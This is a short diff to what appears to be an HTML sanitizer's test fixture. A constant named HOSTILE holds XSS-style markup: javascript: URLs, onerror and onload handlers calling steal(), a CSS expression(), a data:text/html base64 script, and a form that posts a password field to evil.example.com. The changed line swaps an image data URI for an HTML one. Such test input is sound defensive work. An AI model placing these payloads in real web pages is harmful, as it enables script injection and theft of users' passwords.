@@ -21,7 +21,7 @@ const HOSTILE = `
 <object data="movie.swf">juliett</object><embed src="movie.swf">
 <form action="https://evil.example.com/post"><label>kilo</label> <input name="password" type="password"> <button formaction="javascript:x()">lima</button></form>
 <template><p>templateword</p></template><noscript>noscriptword</noscript>
-<img src="javascript:alert(1)" alt="mike" onerror="steal()"><img src="data:image/png;base64,iVBORw0KGgo=" alt="november">
+<img src="javascript:alert(1)" alt="mike" onerror="steal()"><img src="data:text/html;base64,PHNjcmlwdD4=" alt="november">
 <svg onload="steal()"><text>oscar</text></svg>
 <div style="position:fixed">papa <span style="x:expression(alert(1))">quebec</span></div>
 <math><mi>romeo</mi></math>
